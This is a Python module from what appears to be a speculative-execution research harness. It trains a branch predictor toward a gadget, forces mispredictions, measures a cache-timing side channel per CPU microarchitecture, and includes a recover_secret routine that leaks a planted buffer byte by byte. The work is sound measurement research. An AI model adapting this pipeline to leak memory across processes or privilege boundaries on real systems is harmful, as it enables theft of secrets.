"""One experiment cell: build the victim, train, mispredict, probe, count.

A trial runs ``train_iters`` architectural calls of the victim with the
branch target set to the gadget (dummy data, dummy probe array), then one
call with the target set to the landing pad and the real registers.  If the
predictor still sends the branch to the gadget, the gadget's load reaches
the real probe array before the branch resolves.
"""

from __future__ import annotations

import ctypes
import json
import os
import time
from collections import Counter
from dataclasses import asdict, dataclass, field, fields

from .channel import (ChannelCalibration, ProbeArray, ProbeMode, calibrate, classify,
                      qualify_order)
from .codegen import TrialDriver, build_victim
from .errors import CalibrationFailed, DistributionsOverlap, SpecwinError
from .kinds import FenceMode, GadgetKind, SpacerKind, WorkloadKind
from .memory import PAGE, Region, libc
from .topology import CpuTopology, detect_topology, pin_current_thread
from .workloads import check_sibling, running_workload

MIN_TRIALS = 100
MIN_NOISE_FLOOR = 0.005
MAX_RERUNS = 1000

_libc = libc()
_libc.sched_getcpu.restype = ctypes.c_int


@dataclass
class ExperimentConfig:
    gadget: GadgetKind = GadgetKind.LOAD_SHIFT_LOAD
    fence: FenceMode = FenceMode.LFENCE
    spacer_nops: int = 0
    workload: WorkloadKind = WorkloadKind.NONE
    trials: int = 1000
    train_iters: int = 64
    experiment_cpu: int | None = None
    sibling_cpu: int | None = None
    secret: int = 0x41
    noise_floor: float = 0.01
    seed: int = 0
    spacer_kind: SpacerKind = SpacerKind.NOP
    align: int = 16
    control: bool = False

    def __post_init__(self):
        self.gadget = GadgetKind.parse(self.gadget)
        self.fence = FenceMode.parse(self.fence)
        self.workload = WorkloadKind.parse(self.workload)
        self.spacer_kind = SpacerKind.parse(self.spacer_kind)
        if self.trials < MIN_TRIALS:
            raise ValueError(f"trials must be >= {MIN_TRIALS}")
        if not MIN_NOISE_FLOOR <= self.noise_floor < 1:
            raise ValueError(f"noise_floor must be in [{MIN_NOISE_FLOOR}, 1)")
        if self.train_iters < 0:
            raise ValueError("train_iters must be >= 0")
        if not 0 <= self.secret < 2**64:
            raise ValueError("secret must fit in 64 bits")
        expected_slot(self.gadget, self.secret)

    def to_dict(self) -> dict:
        d = asdict(self)
        for k in ("gadget", "fence", "workload", "spacer_kind"):
            d[k] = d[k].value
        return d

    @classmethod
    def from_dict(cls, d: dict) -> "ExperimentConfig":
        names = {f.name for f in fields(cls)}
        return cls(**{k: v for k, v in d.items() if k in names})

    def replace(self, **kw) -> "ExperimentConfig":
        return ExperimentConfig.from_dict({**self.to_dict(), **kw})


@dataclass
class ExperimentResult:
    config: ExperimentConfig
    hits: int
    trials: int
    success_rate: float
    false_positive_slots: dict[int, int] = field(default_factory=dict)
    workload_iterations: int = 0
    calibration: dict | None = None
    timestamp: str = ""
    discarded_trials: int = 0
    probe_seed: int | None = None
    workload: dict | None = None
    planted_secret: str | None = None
    recovered_secret: str | None = None
    error: str | None = None

    def __post_init__(self):
        if not 0 <= self.success_rate <= 1:
            raise ValueError(f"success_rate {self.success_rate} outside [0, 1]")

    @property
    def signal(self) -> bool:
        return self.error is None and self.success_rate > self.config.noise_floor

    def to_dict(self) -> dict:
        d = {f.name: getattr(self, f.name) for f in fields(self)}
        d["config"] = self.config.to_dict()
        d["false_positive_slots"] = {str(k): v for k, v in sorted(self.false_positive_slots.items())}
        d["signal"] = self.signal
        return d

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True)

    @classmethod
    def from_dict(cls, d: dict) -> "ExperimentResult":
        kw = {f.name: d[f.name] for f in fields(cls) if f.name in d}
        kw["config"] = ExperimentConfig.from_dict(d["config"])
        kw["false_positive_slots"] = {int(k): v for k, v in d.get("false_positive_slots", {}).items()}
        return cls(**kw)


def failed_result(config: ExperimentConfig, error: BaseException | str) -> ExperimentResult:
    """Placeholder record for a cell that could not run."""
    return ExperimentResult(config=config, hits=0, trials=0, success_rate=0.0,
                            timestamp=_now(), error=str(error) or type(error).__name__)


def _now() -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())


# -- success rule ---------------------------------------------------------

_PLANTED = {GadgetKind.MINIMAL_LOAD, GadgetKind.STORE, GadgetKind.PREFETCH, GadgetKind.FLUSH}


def expected_slot(gadget, secret: int, stride: int = 1 << 0xC) -> int:
    """Probe slot a successful transient run of ``gadget`` leaves a mark on.

    Byte-disclosing gadgets and the planted-pointer variants use the low
    byte of ``secret``.  The complex gadget scales its loaded value by 8
    before adding it to the probe base, so only ``secret * 8 // stride`` is
    visible; values past the array are rejected.
    """
    gadget = GadgetKind.parse(gadget)
    if gadget is GadgetKind.COMPLEX_LOAD:
        slot = secret * 8 // stride
        if slot >= 256:
            raise ValueError(f"complex-load secret {secret:#x} scales past the probe array")
        return slot
    return secret & 0xFF


def probe_mode(gadget) -> ProbeMode:
    return ProbeMode.INVERTED if GadgetKind.parse(gadget) is GadgetKind.FLUSH else ProbeMode.NORMAL


# -- data cells the gadgets dereference -----------------------------------

# Offsets into a cell page.  Every cell sits on its own line.
_BYTE, _PTR, _VALUE, _PTR2, _TARGET = 0, 64, 128, 192, 256


class _Cells:
    """A page of gadget inputs: secret dword, planted pointers, scaled value."""

    def __init__(self):
        self.region = Region(PAGE)
        self.addr = self.region.addr

    def fill(self, gadget: GadgetKind, secret: int, array: ProbeArray) -> None:
        r = self.region
        r.put_u64(_BYTE, secret & 0xFF)
        r.put_u64(_PTR, array.slot_addr(secret & 0xFF))
        r.put_u64(_VALUE, secret)
        r.put_u64(_PTR2, self.addr + _TARGET)
        r.put_u64(_TARGET, secret)

    def point_at(self, addr: int) -> None:
        """Make the three-load chain read its byte from ``addr``."""
        self.region.put_u64(_PTR2, addr)

    def registers(self, gadget: GadgetKind, secret: int, probe_base: int) -> dict[str, int]:
        g = gadget
        a = self.addr
        if g is GadgetKind.LOAD_SHIFT_LOAD:
            return {"rdi": a + _BYTE, "rdx": 0, "rsi": probe_base}
        if g is GadgetKind.LOAD_ONCE:
            return {"rdi": (secret & 0xFF) << 0xC, "rsi": probe_base}
        if g in _PLANTED:
            return {"rax": a + _PTR}
        if g is GadgetKind.COMPLEX_LOAD:
            # Shift the base down by the in-page part of secret*8 so the
            # line the gadget touches is the one the probe times.
            return {"rax": a + _VALUE, "rsi": probe_base - (secret * 8 % (1 << 0xC) & ~63)}
        if g is GadgetKind.THREE_LOAD_MASKED:
            return {"rbx": a + _PTR2, "rcx": probe_base}
        raise ValueError(g)

    def touch(self) -> None:
        for off in (_BYTE, _PTR, _VALUE, _PTR2, _TARGET):
            self.region.get_u64(off)


# -- session state --------------------------------------------------------

class Session:
    """Per-process measurement state: calibration and qualified probe arrays."""

    def __init__(self, seed: int = 0, samples: int = 2000):
        self.seed = seed
        self.samples = samples
        self._arrays: dict[ProbeMode, ProbeArray] = {}
        self._calibration: ChannelCalibration | None = None
        self._dummy: ProbeArray | None = None

    @property
    def calibration(self) -> ChannelCalibration:
        if self._calibration is None:
            try:
                self._calibration = calibrate(self.array(ProbeMode.NORMAL, qualify=False),
                                              self.samples, seed=self.seed)
            except DistributionsOverlap as exc:
                raise CalibrationFailed(str(exc)) from exc
        return self._calibration

    def array(self, mode: ProbeMode, qualify: bool = True) -> ProbeArray:
        arr = self._arrays.get(mode)
        if arr is None:
            arr = self._arrays[mode] = ProbeArray(mode, seed=self.seed)
            arr.qualified = False
        if qualify and not arr.qualified:
            qualify_order(arr, self.calibration)
            arr.qualified = True
        return arr

    @property
    def dummy(self) -> ProbeArray:
        if self._dummy is None:
            self._dummy = ProbeArray(ProbeMode.NORMAL, seed=self.seed)
        return self._dummy


_session: Session | None = None


def session() -> Session:
    global _session
    if _session is None:
        _session = Session()
    return _session


def current_cpu() -> int:
    return _libc.sched_getcpu()


def resolve_cpus(config: ExperimentConfig, topology: CpuTopology) -> tuple[int, int | None]:
    """Fill in experiment and sibling CPUs the config leaves unset."""
    cpu, sib = config.experiment_cpu, config.sibling_cpu
    if config.workload is WorkloadKind.NONE:
        if cpu is None:
            cpu = min(os.sched_getaffinity(0))
        return cpu, sib
    if not topology.smt_enabled:
        check_sibling(sib if sib is not None else cpu or 0, topology, cpu)
    if cpu is None and sib is None:
        core = next(ids for ids in topology.cores.values() if len(ids) >= 2)
        cpu, sib = core[0], core[1]
    elif cpu is None:
        cpu = topology.sibling_of(sib)
    elif sib is None:
        sib = topology.sibling_of(cpu)
    if sib is None or cpu is None:
        check_sibling(sib if sib is not None else cpu, topology, cpu if sib is not None else None)
    check_sibling(sib, topology, cpu)
    return cpu, sib


class Cell:
    """Victim, driver and data for one configuration, ready to run trials."""

    def __init__(self, config: ExperimentConfig, sess: Session | None = None):
        self.config = config
        self.session = sess or session()
        self.calib = self.session.calibration
        self.mode = probe_mode(config.gadget)
        self.array = self.session.array(self.mode)
        self.dummy = self.session.dummy
        self.layout = build_victim(config.gadget, config.fence, config.spacer_nops,
                                   spacer_kind=config.spacer_kind, align=config.align)
        self.driver = TrialDriver(self.layout)
        self.driver.train_iters = config.train_iters
        # The race is only expected to open when the branch target has to
        # come from memory; fenced cells leave the slot cached.
        self.driver.flush_target = config.fence is FenceMode.NONE
        self.real = _Cells()
        self.fake = _Cells()
        self.set_secret(config.secret)

    def set_secret(self, secret: int) -> None:
        g = self.config.gadget
        self.secret = secret
        self.slot = expected_slot(g, secret)
        self.real.fill(g, secret, self.array)
        self.fake.fill(g, 0, self.dummy)
        train_target = self.layout.landing_pad_addr if self.config.control else self.layout.gadget_addr
        self.driver.set_train(train_target, self.fake.registers(g, 0, self.dummy.base))
        self.driver.set_attack(self.layout.landing_pad_addr,
                               self.real.registers(g, secret, self.array.base))

    def observe(self) -> set[int]:
        """One trial; returns the slots the probe flagged."""
        self.array.reset()
        self.real.touch()
        self.driver.run()
        return classify(self.array.reload_times(), self.calib, self.mode)


def run_trials(cell: Cell, trials: int, expected: int, pin_cpu: int | None):
    hits = 0
    done = 0
    discarded = 0
    fps: Counter = Counter()
    observations = []
    while done < trials:
        seen = cell.observe()
        if pin_cpu is not None and current_cpu() != pin_cpu:
            discarded += 1
            if discarded > MAX_RERUNS:
                raise SpecwinError(f"experiment thread keeps leaving cpu {pin_cpu}")
            continue
        done += 1
        hits += expected in seen
        fps.update(s for s in seen if s != expected)
        observations.append(seen)
    return hits, fps, discarded, observations


def _pinned(cpu: int | None):
    saved = os.sched_getaffinity(0)
    if cpu is not None:
        pin_current_thread(cpu)
    return saved


def run_experiment(config: ExperimentConfig, trial_fn=None, *,
                   topology: CpuTopology | None = None,
                   sess: Session | None = None) -> ExperimentResult:
    """Run ``config.trials`` trials of one cell.

    ``trial_fn(config, index) -> bool`` replaces the hardware trial, for
    testing estimators without a machine to measure.
    """
    if trial_fn is not None:
        hits = sum(bool(trial_fn(config, i)) for i in range(config.trials))
        return ExperimentResult(config=config, hits=hits, trials=config.trials,
                                success_rate=hits / config.trials, timestamp=_now())

    topology = topology or detect_topology()
    cpu, sib = resolve_cpus(config, topology)
    sess = sess or session()
    saved = _pinned(cpu)
    try:
        cell = Cell(config, sess)
        avoid = [(cell.array.base, cell.array.base + 256 * cell.array.stride)]
        with running_workload(config.workload, sib, topology=topology,
                              experiment_cpu=cpu, avoid=avoid, seed=config.seed or 1) as wl:
            hits, fps, discarded, _ = run_trials(cell, config.trials, cell.slot, cpu)
        wl_meta = wl.metadata() if wl is not None else None
    finally:
        os.sched_setaffinity(0, saved)
    return ExperimentResult(
        config=config.replace(experiment_cpu=cpu, sibling_cpu=sib),
        hits=hits,
        trials=config.trials,
        success_rate=hits / config.trials,
        false_positive_slots=dict(fps),
        workload_iterations=wl_meta["iterations"] if wl_meta else 0,
        calibration=sess.calibration.to_dict(),
        timestamp=_now(),
        discarded_trials=discarded,
        probe_seed=cell.array.seed,
        workload=wl_meta,
    )


def control_config(config: ExperimentConfig) -> ExperimentConfig:
    """The same cell trained toward the landing pad: no injection at all."""
    return config.replace(control=True)


def recover_secret(secret: bytes, config: ExperimentConfig, trials_per_byte: int = 100, *,
                   topology: CpuTopology | None = None, sess: Session | None = None):
    """Leak ``secret`` one byte at a time through the three-load gadget.

    Each byte's guess is the most frequently flagged slot across
    ``trials_per_byte`` trials (``None`` if nothing was ever flagged).
    Returns ``(guesses, ExperimentResult)``; the result counts a trial as a
    hit when it flags the true byte.
    """
    config = config.replace(gadget=GadgetKind.THREE_LOAD_MASKED.value)
    topology = topology or detect_topology()
    cpu, sib = resolve_cpus(config, topology)
    sess = sess or session()
    buf = Region(PAGE)
    buf.write(0, bytes(secret))
    saved = _pinned(cpu)
    guesses: list[int | None] = []
    hits = total = discarded = 0
    fps: Counter = Counter()
    try:
        cell = Cell(config, sess)
        avoid = [(cell.array.base, cell.array.base + 256 * cell.array.stride)]
        with running_workload(config.workload, sib, topology=topology,
                              experiment_cpu=cpu, avoid=avoid, seed=config.seed or 1) as wl:
            for i, byte in enumerate(secret):
                cell.set_secret(byte)
                cell.real.point_at(buf.addr + i)
                h, fp, d, seen = run_trials(cell, trials_per_byte, byte, cpu)
                counts = Counter(s for obs in seen for s in obs)
                guesses.append(counts.most_common(1)[0][0] if counts else None)
                hits += h
                total += trials_per_byte
                discarded += d
                fps.update(fp)
        wl_meta = wl.metadata() if wl is not None else None
    finally:
        os.sched_setaffinity(0, saved)
        buf.close()
    recovered = bytes(g for g in guesses if g is not None) if None not in guesses else None
    result = ExperimentResult(
        config=config.replace(experiment_cpu=cpu, sibling_cpu=sib),
        hits=hits, trials=total, success_rate=hits / total if total else 0.0,
        false_positive_slots=dict(fps),
        workload_iterations=wl_meta["iterations"] if wl_meta else 0,
        calibration=sess.calibration.to_dict(), timestamp=_now(),
        discarded_trials=discarded, probe_seed=cell.array.seed, workload=wl_meta,
        planted_secret=bytes(secret).hex(),
        recovered_secret=recovered.hex() if recovered is not None else None,
    )
    return guesses, result


# Workload that opened the largest window per part, used for the three-load
# proof of concept.  Parts without SMT have no entry.
BEST_WORKLOAD = {
    "Sunny Cove": WorkloadKind.INDIRECT_JMP_PREDICTED,
    "Willow Cove": WorkloadKind.INDIRECT_JMP_PREDICTED,
    "Golden Cove": WorkloadKind.INDIRECT_JMP_PREDICTED,
    "Zen": WorkloadKind.XOR,
    "Zen+": WorkloadKind.XOR,
    "Zen 2": WorkloadKind.JCC_MISPREDICTED,
    "Zen 3": WorkloadKind.NANOSLEEP,
}


def best_workload(uarch: str | None) -> WorkloadKind | None:
    """Best workload for a known part; unknown SMT parts get ijmp-p."""
    if uarch in ("Goldmont Plus", "Tremont", "Gracemont"):
        return None
    return BEST_WORKLOAD.get(uarch or "", WorkloadKind.INDIRECT_JMP_PREDICTED)

